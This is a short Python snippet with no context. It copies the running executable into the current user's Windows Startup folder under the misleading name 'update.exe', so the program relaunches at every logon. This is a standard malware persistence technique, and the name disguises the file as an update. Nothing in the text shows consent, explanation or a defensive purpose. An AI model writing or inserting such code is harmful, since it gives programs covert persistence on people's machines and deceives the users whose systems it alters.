import os, shutil, sys
startup = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(sys.executable, os.path.join(startup, "update.exe"))
